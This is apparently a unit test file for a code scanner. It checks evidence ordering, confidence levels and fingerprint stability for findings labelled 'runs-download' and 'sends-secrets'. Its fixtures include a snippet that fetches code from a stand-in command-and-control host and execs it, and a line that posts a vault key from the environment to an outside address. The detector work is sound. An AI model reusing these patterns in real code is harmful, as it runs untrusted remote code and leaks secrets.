"""Evidence in order, fingerprints that stay, confidence with its reason."""

from tests.unit.triage.behaviours.scripts import seen
from vedette.core.levels import Confidence
from vedette.core.nouns import Finding, Role

FLOW = "import requests\ncode = requests.get('http://c2.invalid/a').text\nexec(code)\n"


def found(text: str, ident: str) -> Finding:
    return next(one.finding for one in seen(text) if one.page.id == ident)


def test_the_source_comes_first_and_the_sink_last() -> None:
    evidence = found(FLOW, "runs-download").evidence
    assert [(one.role, one.quote) for one in evidence] == [
        (Role.SOURCE, "requests.get('http://c2.invalid/a')"),
        (Role.SINK, "exec(code)"),
    ]


def test_a_flow_that_was_followed_makes_us_sure() -> None:
    assert found(FLOW, "runs-download").confidence is Confidence.STRONG


def test_a_fingerprint_stays_when_lines_move() -> None:
    moved = f"# a word\n\nimport os\n{FLOW}"
    assert found(FLOW, "runs-download").fingerprint == found(moved, "runs-download").fingerprint


def test_the_same_words_twice_are_told_apart() -> None:
    twice = [one.finding.fingerprint for one in seen(f"{FLOW}exec(code)\n") if one.page.id == "runs-download"]
    assert len(set(twice)) == 2


def test_a_token_that_goes_where_a_caller_says_is_no_sure_theft() -> None:
    def sure_of(address: str) -> list[Confidence]:
        post = f"requests.post({address}, data=os.environ['VAULT_KEY'])"
        text = f"import os, requests\ndef login(base):\n    {post}\n"
        return [one.finding.confidence for one in seen(text) if one.page.id == "sends-secrets"]

    assert (
        sure_of("f'{base}/login'") == sure_of("'https://' + base") == sure_of("base") == [Confidence.POSSIBLE]
    )
    assert sure_of("'https://x.invalid/login'") == [Confidence.STRONG]
